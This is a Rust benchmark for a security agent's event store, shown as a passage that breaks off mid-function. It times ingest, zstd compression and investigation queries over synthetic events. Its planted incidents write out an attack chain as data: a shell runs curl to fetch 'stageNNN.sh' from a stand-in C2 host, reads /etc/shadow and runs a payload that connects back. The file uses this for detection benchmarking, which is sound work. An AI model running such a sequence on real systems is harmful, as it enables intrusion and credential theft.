//! `make bench`, the event store (`vigil-bench-store [--events N] [--dir DIR] [--no-agent]`;
//! `--agent-only [--rounds N] [--backlog-only]` runs part 4 alone, or only its backlog rows):
//!
//! 1. the store's ingest rate alone: events generated and offered at full speed for 10 s to a
//!    store with the default settings, committed against shed, and the writer's committed/s;
//! 2. what compression alone gives: zstd per event, level 3 without and with a 64 KiB
//!    dictionary trained on 4000 events, and level 1 with it, as the store does;
//! 3. a store of N events (default 10,000,000, or `VIGIL_BENCH_STORE_EVENTS`) over the last
//!    24 hours, offered at the writer's pace (none shed): the build's rate, the database's bytes
//!    per event after a checkpoint, and p50/p99 of an investigation's queries, each run once
//!    per incident (64 planted over the day, each with its own shell, download, address, DNS
//!    name and files), binary name or hour, every count asserted against what was generated;
//!    `--dir DIR` builds it in DIR and keeps it (for `EXPLAIN QUERY PLAN`);
//! 4. the real agent (a policy posts every open of one file) with the store and with
//!    `--no-store`, rounds alternating, each agent warmed up first (its store has trained its
//!    dictionary): the ingest rate (events through the pipeline per second of the storm), the
//!    loop's CPU per event (its main thread) and the whole process's, under an exec loop and an
//!    open loop, and the ratios; once draining a backlog (the agent stopped while the workload
//!    runs, its events waiting in the ring buffer: the pipeline's own speed, where the bars
//!    are held), once live (the workload and the agent's threads sharing both CPUs: what the
//!    store's writer takes from a workload at a storm).
//!
//! The events have the agent's shapes (the process and its parent in each, with credentials,
//! namespaces, cgroup, and Docker's default capabilities for root): execs and exits of
//! commands under a dozen services and in shell sessions, file opens over 4000 paths, TCP
//! connects over 2000 addresses, DNS queries over 1000 names, and a few alerts.

use std::{
    collections::HashMap,
    path::{Path, PathBuf},
    process::Command,
    sync::Arc,
    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
};

use vigil_api::v1;
use vigil_events::{
    caps::CapSet, dns::DnsArg, time::rfc3339, Arg, Event, EventBody, ExecId, FileArg, Process,
    ProcessAlert, ProcessExec, ProcessExit, ProcessPolicy, SockArg,
};
use vigil_store::{
    query::{parse_dst, Query, TextMatch},
    EventStore, Searcher, StoreConfig,
};
use vigil_tests::{measure::median, Agent, TempDir};

const NODE: &str = "bench-node";
const INCIDENTS: usize = 64;
const HOUR: u64 = 3_600_000_000_000;
const INGEST_TIME: Duration = Duration::from_secs(10);
const WORDS: [&str; 16] = [
    "app", "nginx", "postgres", "redis", "kafka", "auth", "billing", "search", "metrics", "cron",
    "ssl", "crypto", "systemd", "python", "node", "java",
];
const BINARIES: &str = "python3 bash git ls cat grep sed awk curl ssh sudo make gcc cc1 ld as \
    node java ps find xargs sort uniq head tail tar gzip date id env sleep systemctl journalctl \
    ip ss mount df du stat touch mkdir rm cp mv chmod chown ln wc tr cut basename dirname uname \
    hostname whoami which perl ruby go docker kubectl apt-get dpkg vim";
/// Services under init (`/usr/sbin/<name>:<uid>`); sshd, the first, starts the shell sessions.
const SERVICES: &str = "sshd:0 cron:0 containerd:0 nginx:33 postgres:113 redis-server:114 \
    kubelet:0 node_exporter:65534 systemd-resolved:101 dockerd:0 rsyslogd:104";
/// What the generator fills in: a host process, the events, a socket.
const TEMPLATES: &str = r#"{"process": {"flags": "execve clone", "refcnt": 1,
    "cgroup": {"id": 4242, "path": ""}, "ns": {"uts": {"inum": 4026531838, "is_host": true},
    "ipc": {"inum": 4026531839, "is_host": true}, "mnt": {"inum": 4026531841, "is_host": true},
    "pid": {"inum": 4026531836, "is_host": true}, "pid_for_children": {"inum": 4026531836, "is_host": true},
    "net": {"inum": 4026531840, "is_host": true}, "time": {"inum": 4026531834, "is_host": true},
    "time_for_children": {"inum": 4026531834, "is_host": true},
    "cgroup": {"inum": 4026531835, "is_host": true}, "user": {"inum": 4026531837, "is_host": true}}},
  "event": {"process_exec": {"process": {}}, "node_name": "bench-node"},
  "exec": {"process": {}}, "exit": {"process": {}},
  "policy": {"process": {}, "action": "KPROBE_ACTION_POST", "outcome": "posted"},
  "alert": {"process": {}, "rule_id": "e2303a2b-1c8f-4a5e-9e8e-3c1f5a0c9d21", "title": "",
    "level": "high", "tags": ["attack.execution", "attack.t1059.004"],
    "rule_file": "proc_creation_lnx_susp_shell.yml", "category": "process_creation",
    "event": {"process_exec": {"process": {}}, "node_name": "bench-node"}},
  "sock": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
    "saddr": "10.0.0.5", "state": "TCP_SYN_SENT", "netns": 4026531840}}"#;

#[derive(serde::Deserialize)]
struct Templates {
    process: Process,
    event: Event,
    exec: ProcessExec,
    exit: ProcessExit,
    policy: ProcessPolicy,
    alert: ProcessAlert,
    sock: SockArg,
}

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    /// An index below `n`, low ones far more often (a few paths and binaries dominate).
    fn skewed(&mut self, n: usize) -> usize {
        let r = (self.next() >> 11) as f64 / (1u64 << 53) as f64;
        (r * r * r * n as f64) as usize
    }
}

type Proc = Arc<Process>;

/// A planted incident (14 events): sshd → bash → curl (DNS query, connect, writes the
/// payload), cat /etc/shadow, the payload (connects back); an alert on the shell. The shell's
/// and curl's exec ids, and when it ended.
struct Incident(String, String, u64);

/// The generator, and what it generated (the queries' expected counts).
struct Gen {
    rng: Rng,
    n: u64,
    emitted: u64,
    t0: u64,
    step: u64,
    ktime: u64,
    pid: u32,
    pools: [Vec<String>; 4],
    t: Templates,
    /// The process the next events are about, and its parent.
    cur: (Proc, Proc),
    /// The services, then init.
    services: Vec<Proc>,
    out: Vec<Arc<Event>>,
    svc_events: Vec<u64>,
    by_name: HashMap<String, u64>,
    shadow: Vec<u64>,
    incidents: Vec<Incident>,
}

/// 4000 paths, 2000 addresses, 1000 DNS names, 64 binaries.
fn pools() -> [Vec<String>; 4] {
    let fixed: Vec<&str> = "ld.so.cache passwd hosts resolv.conf nsswitch.conf localtime"
        .split(' ')
        .collect();
    let dirs = [
        "/usr/lib/x86_64-linux-gnu/lib",
        "/etc/",
        "/var/log/",
        "/srv/",
        "/var/lib/",
    ];
    let (exts, w) = (["so", "conf", "log", "py", "db"], |i: usize| WORDS[i % 16]);
    let paths = (0..4000)
        .map(|i| match fixed.get(i) {
            Some(f) => format!("/etc/{f}"),
            None => format!("{}{}/{}-{i}.{}", dirs[i % 5], w(i), w(i / 16), exts[i % 5]),
        })
        .collect();
    let addrs = (0..2000u64)
        .map(|i| match i % 4 {
            0 => format!("140.82.{}.{}", 112 + i % 4, i % 250 + 1),
            1 => format!("2606:4700::6810:{i:x}"),
            _ => format!("10.{}.{}.{}", i % 200, i / 7 % 250, i % 251 + 1),
        })
        .collect();
    let names = (0..1000).map(|i| format!("{}-{i}.{}.svc.example.net", w(i), w(i / 16)));
    let bins = BINARIES.split_whitespace().map(|b| format!("/usr/bin/{b}"));
    [paths, addrs, names.collect(), bins.collect()]
}

impl Gen {
    /// About `n` events, evenly over the 24 hours up to ten minutes ago.
    fn new(seed: u64, n: u64) -> Gen {
        let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap();
        let mut g = Gen {
            rng: Rng(seed.wrapping_mul(0x9E3779B97F4A7C15) | 1),
            n,
            emitted: 0,
            t0: now.as_nanos() as u64 - 600_000_000_000 - 24 * HOUR,
            step: 24 * HOUR / n,
            ktime: 1_000_000_000,
            pid: 1,
            pools: pools(),
            t: serde_json::from_str(TEMPLATES).unwrap(),
            cur: Default::default(),
            services: Vec::new(),
            out: Vec::new(),
            svc_events: vec![0; 11],
            by_name: HashMap::new(),
            shadow: Vec::new(),
            incidents: Vec::new(),
        };
        let init = g.process("/sbin/init", "splash", None, 0);
        (g.pid, g.cur.1) = (300, init.clone());
        for s in SERVICES.split_whitespace() {
            let (name, uid) = s.split_once(':').unwrap();
            let bin = format!("/usr/sbin/{name}");
            let p = g.process(&bin, "-D", Some(&init), uid.parse().unwrap());
            g.services.push(p);
        }
        g.services.push(init);
        g
    }

    /// The time of the next event.
    fn now(&self) -> u64 {
        self.t0 + self.emitted * self.step
    }

    fn process(&mut self, bin: &str, args: &str, parent: Option<&Proc>, uid: u32) -> Proc {
        self.ktime += 1000 + self.rng.below(1_000_000);
        self.pid = 300.max((self.pid + 1 + self.rng.below(5) as u32) % 4_000_000);
        let mut p = self.t.process.clone();
        (p.pid, p.tid, p.uid) = (self.pid, self.pid, uid);
        p.auid = if uid >= 1000 { uid } else { u32::MAX };
        p.exec_id = ExecId::new(NODE, self.ktime, self.pid);
        (p.binary, p.arguments) = (bin.to_string(), args.to_string());
        p.start_time = rfc3339(self.now() as i128);
        p.parent_exec_id = parent.map(|p| p.exec_id.clone()).unwrap_or_default();
        let caps = CapSet(if uid == 0 { 0xa80425fb } else { 0 }); // Docker's default set
        (p.cap.permitted, p.cap.effective) = (caps, caps);
        // Written, with the template's namespaces, as an agent started with
        // --enable-process-cred --enable-process-ns writes them: the store's figures stay
        // comparable with the runs before those became optional.
        p.cap.detail = vigil_events::Detail::Written;
        p.process_credentials.detail = vigil_events::Detail::Written;
        let c = &mut p.process_credentials;
        (c.uid, c.gid, c.euid, c.egid, c.suid, c.sgid) = (uid, uid, uid, uid, uid, uid);
        (c.fsuid, c.fsgid) = (uid, uid);
        let cgroup = p.cgroup.as_mut().unwrap();
        if uid >= 1000 {
            p.cwd = format!("/home/user{}", uid - 1000);
            cgroup.path = format!("/user.slice/user-{uid}.slice/session-{}.scope", uid % 7);
        } else {
            p.cwd = "/".into();
            cgroup.path = format!("/system.slice/{}.service", bin.rsplit('/').next().unwrap());
        }
        Arc::new(p)
    }

    fn emit(&mut self, body: EventBody) {
        let mut event = self.t.event.clone();
        (event.body, event.time) = (body, rfc3339(self.now() as i128));
        let name = event.process().binary.rsplit('/').next().unwrap_or("");
        match self.by_name.get_mut(name) {
            Some(n) => *n += 1,
            None => drop(self.by_name.insert(name.to_string(), 1)),
        }
        self.emitted += 1;
        self.out.push(Arc::new(event));
    }

    /// A new process under `parent` and its exec event; the next events are about it.
    fn exec(&mut self, bin: &str, args: &str, parent: &Proc, uid: u32) -> Proc {
        let p = self.process(bin, args, Some(parent), uid);
        self.cur = (p.clone(), parent.clone());
        let mut e = self.t.exec.clone();
        (e.process, e.parent) = (p.clone(), Some(parent.clone()));
        self.emit(EventBody::ProcessExec(e));
        p
    }

    fn exit(&mut self, p: &Proc, parent: &Proc) {
        let mut e = self.t.exit.clone();
        (e.process, e.parent) = (p.clone(), Some(parent.clone()));
        e.time = rfc3339(self.now() as i128);
        self.emit(EventBody::ProcessExit(e));
    }

    fn policy(&mut self, function: &str, args: Vec<Arg>, name: &str) {
        let mut e = self.t.policy.clone();
        (e.process, e.parent, e.args) = (self.cur.0.clone(), Some(self.cur.1.clone()), args);
        (e.function_name, e.policy_name) = (function.into(), name.into());
        self.emit(EventBody::ProcessKprobe(Box::new(e)));
    }

    fn open(&mut self, path: String) {
        if path == "/etc/shadow" {
            self.shadow.push(self.now());
        }
        let mut f = FileArg::default();
        (f.path, f.permission) = (path, "-rw-r--r--".into());
        self.policy(
            "security_file_open",
            vec![Arg::FileArg(f)],
            "observe-file-opens",
        );
    }

    fn sock(&mut self, daddr: &str, dport: u16) -> SockArg {
        let mut s = self.t.sock.clone();
        (s.daddr, s.dport, s.cookie) = (daddr.to_string(), dport, self.rng.next());
        s.sport = 32768 + (s.cookie % 28000) as u16;
        if daddr.contains(':') {
            (s.family, s.saddr) = ("AF_INET6".into(), "fd00::5".into());
        }
        s
    }

    fn connect(&mut self, daddr: &str, dport: u16) {
        let arg = Arg::SockArg(self.sock(daddr, dport));
        self.policy("tcp_connect", vec![arg], "observe-tcp-connections");
    }

    fn dns(&mut self, query: String) {
        let mut s = self.sock("127.0.0.53", 53);
        (s.sock_type, s.protocol, s.state) = ("SOCK_DGRAM".into(), "IPPROTO_UDP".into(), "".into());
        let mut d = DnsArg::default();
        (d.id, d.query, d.qtype) = (self.rng.below(65536) as u16, query, "A".into());
        let args = vec![Arg::SockArg(s), Arg::DnsArg(d)];
        self.policy("udp_sendmsg", args, "observe-dns");
    }

    /// A Sigma alert on the current process's exec.
    fn alert(&mut self, title: &str) {
        let mut a = self.t.alert.clone();
        (a.process, a.parent) = (self.cur.0.clone(), Some(self.cur.1.clone()));
        let mut e = self.t.exec.clone();
        (e.process, e.parent, a.title) = (a.process.clone(), a.parent.clone(), title.into());
        (a.event.body, a.event.time) = (EventBody::ProcessExec(e), rfc3339(self.now() as i128));
        self.emit(EventBody::ProcessAlert(Box::new(a)));
    }

    /// Something the current process does: a file open (now and then /etc/shadow), a connect,
    /// a DNS query.
    fn activity(&mut self) {
        let (what, i) = (self.rng.below(10), self.rng.skewed(1000));
        let port = [443, 443, 80, 5432, 6379, 9092][i % 6];
        match what {
            0..=5 if self.rng.below(20_000) == 0 => self.open("/etc/shadow".into()),
            0..=5 => self.open(self.pools[0][i * 4 + self.emitted as usize % 4].clone()),
            6..=8 => self.connect(
                &self.pools[1][i * 2 + self.emitted as usize % 2].clone(),
                port,
            ),
            _ => self.dns(self.pools[2][i].clone()),
        }
    }

    /// A command under `parent`: exec, 0 to 3 activities, exit; an alert now and then.
    fn command(&mut self, parent: &Proc) {
        let (b, w, f, id) = (
            self.rng.skewed(64),
            self.rng.below(16),
            self.rng.skewed(4000),
            self.rng.next(),
        );
        let uid = if id % 5 == 0 {
            0
        } else {
            1000 + (id >> 8) as u32 % 40
        };
        let args = format!(
            "--{} {} --id {:08x}",
            WORDS[w as usize], self.pools[0][f], id as u32
        );
        let p = self.exec(&self.pools[3][b].clone(), &args, parent, uid);
        if self.rng.below(2000) == 0 {
            self.alert("Suspicious command line");
        }
        for _ in 0..self.rng.below(4) {
            self.activity();
        }
        self.exit(&p, parent);
    }

    fn incident(&mut self, k: usize) {
        let (sshd, addr) = (self.services[0].clone(), format!("10.250.0.{}", k + 1));
        let sh = self.exec("/bin/bash", "-i", &sshd, 0);
        let args = format!("-fsSL http://{addr}:8443/stage{k:03}.sh -o /tmp/.cache-{k:03}/payload");
        let curl = self.exec("/usr/bin/curl", &args, &sh, 0);
        self.dns(format!("c2-{k:03}.badcdn.example"));
        self.connect(&addr, 8443);
        self.open(format!("/tmp/.cache-{k:03}/payload"));
        self.exit(&curl, &sh);
        let cat = self.exec("/usr/bin/cat", "/etc/shadow", &sh, 0);
        self.open("/etc/shadow".into());
        self.exit(&cat, &sh);
        let payload = self.exec(&format!("/tmp/.cache-{k:03}/payload"), "", &sh, 0);
        self.connect(&addr, 4444);
        self.exit(&payload, &sh);
        self.cur = (sh.clone(), sshd.clone());
        self.alert("Shell reads the password hashes");
        self.exit(&sh, &sshd);
        let (shell, curl) = (sh.exec_id.to_string(), curl.exec_id.to_string());
        self.incidents.push(Incident(shell, curl, self.now()));
    }

    /// Appends at least `n` events to `buf`: an incident when its place comes, else a service's
    /// own activity (30 %), a shell session under sshd (3 %), or a command under a service.
    fn fill(&mut self, buf: &mut Vec<Arc<Event>>, n: usize) {
        while self.out.len() < n {
            let k = self.incidents.len();
            if k < INCIDENTS && self.emitted + 200 >= (k as u64 + 1) * self.n / INCIDENTS as u64 {
                self.incident(k);
                continue;
            }
            let (r, s) = (self.rng.below(100), self.rng.skewed(11));
            let uid = self.rng.below(40) as u32;
            let (svc, sshd) = (self.services[s].clone(), self.services[0].clone());
            if r < 30 {
                self.svc_events[s] += 1;
                self.cur = (svc, self.services[11].clone());
                self.activity();
            } else if r < 33 {
                let sh = self.exec("/bin/bash", "-l", &sshd, 1000 + uid);
                for _ in 0..2 + uid % 4 {
                    self.command(&sh);
                }
                self.exit(&sh, &sshd);
            } else {
                self.command(&svc);
            }
        }
        buf.append(&mut self.out);
    }
}

fn ms(d: Duration) -> f64 {
    d.as_secs_f64() * 1e3
}

/// 1: events generated and offered as fast as one thread can, for INGEST_TIME.
fn ingest(dir: &Path, n: u64) {
    let mut store = EventStore::open(&dir.join("ingest"), &StoreConfig::default()).unwrap();
    let (mut g, mut buf, start) = (Gen::new(7, n), Vec::new(), Instant::now());
    while start.elapsed() < INGEST_TIME {
        g.fill(&mut buf, 1024);
        buf.drain(..).for_each(|e| store.offer(&e));
    }
    let offering = start.elapsed().as_secs_f64();
    let s = store.close();
    let secs = start.elapsed().as_secs_f64();
    assert_eq!((s.offered, s.failed), (s.committed + s.shed, 0), "{s:?}");
    let shed = s.shed as f64 * 100.0 / s.offered as f64;
    println!("| ingest: the store alone, events offered at full speed for {} s (default settings: 65536 events or 64 MiB queued) | {:.0} offered/s: {} committed, {} shed ({shed:.1} %); the writer committed {:.0} events/s (over {secs:.1} s, to its queue's end) |",
        INGEST_TIME.as_secs(), s.offered as f64 / offering, s.committed, s.shed, s.committed as f64 / secs);
}

/// 2: zstd per event: level 3 without and with a dictionary trained on 4000 events, and level
/// 1 (the store's) with it.
fn compression() {
    let (mut g, mut events) = (Gen::new(11, 1_000_000), Vec::new());
    g.fill(&mut events, 24_000);
    let json: Vec<Vec<u8>> = events
        .iter()
        .map(|e| serde_json::to_vec(e).unwrap())
        .collect();
    let (train, test) = json.split_at(4000);
    let start = Instant::now();
    let dict = zstd::dict::from_samples(train, 64 * 1024).unwrap();
    let training = start.elapsed().as_secs_f64();
    let mean = |mut c: zstd::bulk::Compressor| {
        let start = Instant::now();
        let bytes: usize = test.iter().map(|j| c.compress(j).unwrap().len()).sum();
        let us = start.elapsed().as_secs_f64() * 1e6 / test.len() as f64;
        (bytes as f64 / test.len() as f64, us)
    };
    let raw = test.iter().map(Vec::len).sum::<usize>() as f64 / test.len() as f64;
    let (p, pt) = mean(zstd::bulk::Compressor::new(3).unwrap());
    let (d, dt) = mean(zstd::bulk::Compressor::with_dictionary(3, &dict).unwrap());
    let (f, ft) = mean(zstd::bulk::Compressor::with_dictionary(1, &dict).unwrap());
    println!("| compression alone: zstd, {} events one by one (after the 4000 trained on, in {training:.2} s) | JSON {raw:.0} B/event; level 3 without a dictionary {p:.0} B (×{:.1}, {pt:.1} µs/event); level 3 with a 64 KiB dictionary {d:.0} B (×{:.1}, {dt:.1} µs/event); level 1 with it {f:.0} B (×{:.1}, {ft:.1} µs/event) |",
        test.len(), raw / p, raw / d, raw / f);
}

/// 3a: a store of about `n` events, offered at the writer's pace; its generator.
fn build(db_dir: &Path, n: u64) -> Gen {
    let config = StoreConfig {
        max_size_mib: 1 << 20,
        ..StoreConfig::default()
    };
    let mut store = EventStore::open(db_dir, &config).unwrap();
    let (mut g, mut buf, start) = (Gen::new(1, n), Vec::new(), Instant::now());
    let (mut offered, mut json) = (0u64, 0u64);
    while g.emitted < n {
        g.fill(&mut buf, 8192);
        for e in buf.drain(..) {
            if offered % 16 == 0 {
                json += serde_json::to_vec(&e).unwrap().len() as u64;
            }
            store.offer(&e);
            offered += 1;
            if offered % 1_000_000 == 0 {
                eprintln!("  {offered} offered, {:.0?}", start.elapsed());
            }
        }
        // The queue sheds past 65536 events or 64 MiB (about 20,000 of these events, with
        // their columns).
        store.hand_off();
        while offered - store.stats().committed > 4096 {
            std::thread::sleep(Duration::from_millis(2));
        }
    }
    let s = store.close();
    let secs = start.elapsed().as_secs_f64();
    assert_eq!((s.committed, s.shed, s.failed), (g.emitted, 0, 0), "{s:?}");
    println!("| build: {} events offered at the writer's pace (none shed: at most 12288 queued) | {secs:.0} s: {:.0} events/s committed, {} transactions |",
        s.committed, s.committed as f64 / secs, s.commits);
    let conn = rusqlite::Connection::open(db_dir.join(vigil_store::DB_FILE)).unwrap();
    let checkpoint = "PRAGMA wal_checkpoint(TRUNCATE)";
    conn.query_row(checkpoint, [], |_| Ok(())).unwrap();
    let size = |name: &str| std::fs::metadata(db_dir.join(name)).map_or(0, |m| m.len());
    let bytes = size(vigil_store::DB_FILE) + size("events.db-wal");
    let per = |b: f64| b / s.committed as f64;
    let json = json as f64 / offered.div_ceil(16) as f64;
    println!("| bytes per stored event (events.db + -wal after a checkpoint: {:.2} GiB) | {:.0} B; the events' JSON {json:.0} B: ×{:.2} smaller |",
        bytes as f64 / (1u64 << 30) as f64, per(bytes as f64), json / per(bytes as f64));
    let sql = "SELECT name, sum(pgsize) FROM dbstat GROUP BY name ORDER BY 2 DESC";
    let mut stmt = conn.prepare(sql).unwrap();
    let rows = stmt.query_map([], |r| {
        Ok((r.get::<_, String>(0)?, per(r.get::<_, f64>(1)?)))
    });
    let parts: Vec<String> = (rows.unwrap().map(Result::unwrap))
        .filter(|(_, b)| *b >= 1.0)
        .map(|(name, b)| format!("{name} {b:.0}"))
        .collect();
    println!("| of which, B per event (dbstat) | {} |", parts.join(", "));
    g
}

const CASES: [&str; 8] = [
    "path exact `/etc/shadow` in the 5 minutes up to an incident's end",
    "dst 10.250.0.k/32 (curl's and the payload's connects)",
    "binary name + limit 100 (64 names, most to least frequent)",
    "args substring `stage0kk.sh` (curl's events)",
    "path substring `cache-0kk/pay` (curl's write)",
    "exec_id of the curl",
    "subtree (timeline) of the shell",
    "dns name `c2-0kk.badcdn.example`",
];

/// Query `i` of CASES for incident (or binary name) `k`, and how many events it returns.
fn case(g: &Gen, names: &[(&String, &u64)], i: usize, k: usize) -> (Query, u64) {
    let (mut q, Incident(shell, curl, end)) = (Query::default(), &g.incidents[k]);
    let sub = |text: String| Some(TextMatch::Substring(text));
    let n = match i {
        0 => {
            (q.from_ns, q.to_ns) = (Some(end - 300_000_000_000), Some(*end));
            q.path = Some(TextMatch::Exact("/etc/shadow".into()));
            let within = |t: &&u64| (end - 300_000_000_000..*end).contains(*t);
            g.shadow.iter().filter(within).count() as u64
        }
        1 => (q.dst = parse_dst(&format!("10.250.0.{}/32", k + 1)).ok(), 2).1,
        2 => {
            let (name, count) = names[k * names.len() / INCIDENTS];
            (q.binary, q.limit) = (Some(name.to_string()), Some(100));
            (*count).min(100)
        }
        3 => (q.args = sub(format!("stage{k:03}.sh")), 5).1,
        4 => (q.path = sub(format!("cache-{k:03}/pay")), 1).1,
        5 => (q.exec_id = Some(curl.clone()), 5).1,
        6 => (q.subtree = Some(shell.clone()), 14).1,
        _ => (q.dns = Some(format!("c2-{k:03}.badcdn.example")), 1).1,
    };
    (q, n)
}

fn report(what: &str, mut t: Vec<Duration>, counts: Vec<u64>) {
    t.sort();
    let p = |q: f64| ms(t[((t.len() as f64 * q).ceil() as usize).clamp(1, t.len()) - 1]);
    let (lo, hi) = (counts.iter().min().unwrap(), counts.iter().max().unwrap());
    let n = if lo == hi {
        lo.to_string()
    } else {
        format!("{lo}–{hi}")
    };
    let (p50, p99, max) = (p(0.5), p(0.99), p(1.0));
    println!("| {what} | {p50:.2} | {p99:.2} | {max:.2} | {n} |");
}

/// 3b: each query once per incident (or binary name, or hour): its latency, its count asserted.
fn queries(db: &Path, g: &Gen) {
    let mut s = Searcher::open(db).unwrap();
    let mut names: Vec<(&String, &u64)> = g.by_name.iter().collect();
    names.sort_by_key(|(n, c)| (std::cmp::Reverse(**c), n.to_string()));
    println!("\n| query on {} events ({INCIDENTS} runs each, parameters varied) | p50 ms | p99 ms | max ms | events returned (asserted) |", g.emitted);
    println!("|---|---|---|---|---|");
    for (i, what) in CASES.iter().enumerate() {
        let (mut t, mut counts) = (Vec::new(), Vec::new());
        for k in 0..INCIDENTS {
            let (q, expected) = case(g, &names, i, k);
            let start = Instant::now();
            let got = s.search(&q, |_| true).unwrap();
            t.push(start.elapsed());
            assert_eq!(got, expected, "{what}: {q:?}");
            counts.push(expected);
        }
        report(what, t, counts);
    }
    let sshd = (g.svc_events[0] as usize).min(vigil_store::search::MAX_TREE_EVENTS);
    let (mut t, mut counts) = (Vec::new(), Vec::new());
    for Incident(shell, _, _) in &g.incidents {
        let start = Instant::now();
        let tree = s.tree(shell, true).unwrap().expect("the shell's tree");
        t.push(start.elapsed());
        let shape: Vec<(i32, usize)> = tree.iter().map(|n| (n.depth, n.events.len())).collect();
        let expected = [(-2, 0), (-1, sshd), (0, 3), (1, 5), (1, 3), (1, 3)];
        assert_eq!(shape, expected, "tree of {shell}");
        counts.push(14 + sshd as u64);
    }
    report("tree(the shell's exec_id) with events: init, sshd (its events capped at 1000), the shell, 3 children", t, counts);
    let (mut t, mut counts) = (Vec::new(), Vec::new());
    let index = |t: u64| (t.saturating_sub(g.t0).div_ceil(g.step)).min(g.emitted);
    for k in 0..INCIDENTS as u64 {
        let from = g.t0 + k * 23 * HOUR / INCIDENTS as u64 + k * 7_919_000_000;
        let mut q = Query::default();
        (q.from_ns, q.to_ns) = (Some(from), Some(from + HOUR));
        let start = Instant::now();
        let n = s.count(&q).unwrap();
        t.push(start.elapsed());
        assert_eq!(n, index(from + HOUR) - index(from), "count {q:?}");
        counts.push(n);
    }
    report(
        "count of all events in 1 h (64 windows over the day)",
        t,
        counts,
    );
}

const OPENS: usize = 100_000;
const EXECS: usize = 10_000;
/// Execs of a backlog: its 80,000 events drain in about a second. (10,000 drained in about
/// 0.2 s, which the 10 ms reads of the published count resolved to ±5 %, half the bar.)
const BACKLOG_EXECS: usize = 40_000;
const ROUNDS: usize = 7;

/// The agent's CPU seconds: the whole process, the store's writer thread, and the loop (the
/// main thread: ring buffer, enrichment, encoding, the queues to every output). Read from each
/// thread's schedstat (nanoseconds on a CPU), not from ticks: a storm of a second is a hundred
/// ticks, and the bar is a tenth of it.
fn agent_cpu(pid: u32) -> [f64; 3] {
    let read = |path: std::path::PathBuf| std::fs::read_to_string(path).unwrap_or_default();
    let secs = |schedstat: String| {
        let ns = schedstat
            .split(' ')
            .next()
            .and_then(|f| f.parse::<u64>().ok());
        ns.unwrap_or(0) as f64 / 1e9
    };
    let (mut total, mut store, mut main) = (0.0, 0.0, 0.0);
    for t in std::fs::read_dir(format!("/proc/{pid}/task"))
        .unwrap()
        .flatten()
    {
        let cpu = secs(read(t.path().join("schedstat")));
        total += cpu;
        if read(t.path().join("comm")) == "vigil-store\n" {
            store += cpu;
        }
        if t.file_name().to_str() == Some(&pid.to_string()) {
            main = cpu;
        }
    }
    [total, store, main]
}

/// Waits until the agent's published events stay the same for half a second and its store
/// has nothing queued; its events, and the store's committed and shed.
fn settle(rt: &tokio::runtime::Runtime, agent: &Agent) -> [u64; 3] {
    let addr = vigil_api::ServerAddr::Unix(agent.socket.clone());
    rt.block_on(async {
        let mut client = vigil_api::connect(&addr, None).await.unwrap();
        let mut last = u64::MAX;
        loop {
            let h = client.get_health(v1::GetHealthRequest {}).await.unwrap();
            let (events, st) = (h.get_ref().events, h.get_ref().store.clone());
            let st = st.unwrap_or_default();
            if events == last && st.offered == st.committed + st.shed {
                return [events, st.committed, st.shed];
            }
            last = events;
            tokio::time::sleep(Duration::from_millis(500)).await;
        }
    })
}

/// Runs this benchmark's child `mode` (the exec or the open loop); its rate.
fn child(mode: &str, arg: &str) -> f64 {
    let exe = std::env::current_exe().unwrap();
    let out = Command::new(exe).args([mode, arg]).output().unwrap();
    assert!(out.status.success(), "{mode} {arg}: {out:?}");
    String::from_utf8_lossy(&out.stdout).trim().parse().unwrap()
}

/// Runs the child `mode` while reading the events the agent's export file has taken every
/// 10 ms: the workload's own rate, and the pipeline's, its events over the time from the
/// storm's start to the last one's delivery. An open storm makes events faster than the loop
/// takes them: the pipeline's rate is then the loop's throughput, and it goes on after the
/// workload ends.
///
/// With `backlog`, the agent is stopped (`SIGSTOP`, every thread) while the workload runs, so
/// that its events wait in the ring buffer; the pipeline's rate is then the rate it drains
/// them at once continued, with nothing else running: its own speed, which a workload sharing
/// the CPUs with the agent's threads cannot confuse.
fn storm(
    rt: &tokio::runtime::Runtime,
    agent: &Agent,
    mode: &str,
    arg: &str,
    backlog: bool,
) -> [f64; 2] {
    let exe = std::env::current_exe().unwrap();
    let addr = vigil_api::ServerAddr::Unix(agent.socket.clone());
    let signal = |sig| {
        // SAFETY: a signal to the agent this benchmark started.
        assert_eq!(unsafe { libc::kill(agent.pid() as i32, sig) }, 0);
    };
    rt.block_on(async {
        let mut client = vigil_api::connect(&addr, None).await.unwrap();
        // An event is through once the export file has it: one spilled to the sink's spool
        // is not, until it is read back and written.
        let mut published = async || {
            let h = client.get_health(v1::GetHealthRequest {}).await.unwrap();
            let h = h.get_ref();
            h.exporters
                .iter()
                .find(|e| e.name == "export-file")
                .and_then(|e| e.counters.get("delivered").copied())
                .expect("the export file's delivered count")
        };
        let first = published().await;
        if backlog {
            signal(libc::SIGSTOP);
        }
        let mut start = Instant::now();
        let mut child = Command::new(exe)
            .args([mode, arg])
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        if backlog {
            child.wait().unwrap();
            signal(libc::SIGCONT);
            start = Instant::now();
        }
        let (mut last, mut at, mut ended) = (first, start, None);
        loop {
            tokio::time::sleep(Duration::from_millis(10)).await;
            let n = published().await;
            let now = Instant::now();
            if n != last {
                (last, at) = (n, now);
            }
            if ended.is_none() {
                ended = child.try_wait().unwrap();
            }
            // Still for half a second once the workload ended, after moving at all (a first
            // delivery can wait that long behind a rotation's gzip).
            let still = now - at >= Duration::from_millis(500);
            if ended.is_some() && still && (last != first || now - start >= Duration::from_secs(10))
            {
                break;
            }
        }
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{mode} {arg}: {out:?}");
        let rate: f64 = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
        [rate, (last - first) as f64 / (at - start).as_secs_f64()]
    })
}

/// One workload in one round: CPU, the writer's CPU, events, committed, shed, the workload's
/// rate, the loop's CPU, the pipeline's rate.
type Load = [f64; 8];

/// Ring buffer for the backlog rounds: an open storm's 100,000 records wait there whole.
const BACKLOG_RING_MIB: &str = "256";

/// One agent, with or without the store: a warm-up, the exec loop, then the open loop, each
/// live or (`backlog`) left in the ring buffer for the agent to drain.
fn agent_round(
    rt: &tokio::runtime::Runtime,
